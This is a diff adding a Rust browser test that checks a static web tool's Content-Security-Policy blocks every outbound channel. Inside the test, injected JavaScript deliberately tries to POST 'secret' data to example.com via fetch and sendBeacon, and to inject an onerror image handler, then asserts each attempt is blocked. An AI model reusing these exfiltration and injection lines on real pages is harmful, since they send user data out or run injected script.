@@ -314,6 +314,79 @@ async fn hostile_or_broken_links_are_refused_with_a_message() {
     session.close().await;
 }
 
+/// The built site works from a folder of a static host, and its Content-Security-Policy makes the
+/// browser itself keep the promise that nothing leaves the page.
+#[tokio::test]
+async fn the_site_works_from_a_sub_path_and_cannot_send_anything() {
+    let Some(setup) = Setup::from_env() else { return };
+    let session = Session::open_under(&setup, "/tools/bellows/").await;
+    assert!(session.site.url.ends_with("/tools/bellows/"), "{}", session.site.url);
+    let page = open_with(&session, BOOKS).await;
+    assert_eq!(page.wait_for_table_count("2 tables").await, "2 tables");
+    // A link made here opens here, under the same folder.
+    page.select_table("books").await;
+    page.rename_column("title", "headline").await;
+    let link = page.copy_link().await;
+    assert!(link.contains("/tools/bellows/#d=2."), "{link}");
+
+    let policies: Vec<String> = serde_json::from_value(
+        session
+            .client
+            .execute(
+                "return [...document.querySelectorAll('meta[http-equiv=\"Content-Security-Policy\"]')].map(m => m.content);",
+                vec![],
+            )
+            .await
+            .expect("eval"),
+    )
+    .expect("strings");
+    assert_eq!(policies.len(), 2, "the page's policy, then the app's lock: {policies:?}");
+    assert!(
+        policies[0].contains("script-src 'self' 'sha256-") && policies[0].contains("default-src 'none'"),
+        "{policies:?}"
+    );
+    assert_eq!(policies[1], "connect-src 'none'");
+
+    // Every way out is refused by the browser: fetch (to the page's own host too), a beacon, and
+    // a script injected as markup.
+    let outcome = session
+        .client
+        .execute_async(
+            "const done = arguments[arguments.length - 1];
+             (async () => {
+               const violations = [];
+               document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
+               const attempt = p => p.then(() => 'sent', () => 'blocked');
+               const results = {};
+               results.own = await attempt(fetch('./index.html'));
+               results.other = await attempt(fetch('https://example.com/collect', { method: 'POST', body: 'secret' }));
+               navigator.sendBeacon('https://example.com/b', 'secret');
+               const s = document.createElement('div');
+               s.innerHTML = '<img src=x onerror=\"window.__ran = 1\">';
+               document.body.appendChild(s);
+               await new Promise(r => setTimeout(r, 500));
+               results.inline = window.__ran === undefined ? 'blocked' : 'ran';
+               results.violations = violations;
+               done(results);
+             })();",
+            vec![],
+        )
+        .await
+        .expect("eval");
+    assert_eq!(outcome["own"], "blocked", "{outcome}");
+    assert_eq!(outcome["other"], "blocked", "{outcome}");
+    assert_eq!(outcome["inline"], "blocked", "{outcome}");
+    let violated: Vec<String> = serde_json::from_value(outcome["violations"].clone()).unwrap_or_default();
+    let count = |d: &str| violated.iter().filter(|v| *v == d).count();
+    assert!(count("connect-src") >= 3, "two fetches and the beacon: {violated:?}");
+    assert!(count("script-src-attr") + count("script-src") >= 1, "the injected handler: {violated:?}");
+    // The page still works after all that.
+    page.type_source("CREATE TABLE solo (id int PRIMARY KEY);").await;
+    assert_eq!(page.wait_for_table_count("1 table").await, "1 table");
+    session.screenshot("10-sub-path-with-csp").await;
+    session.close().await;
+}
+
 mod base64_url {
     /// deflate + base64url without padding: the link format, written independently of the app.
     pub fn encode_deflated(bytes: &[u8]) -> String {
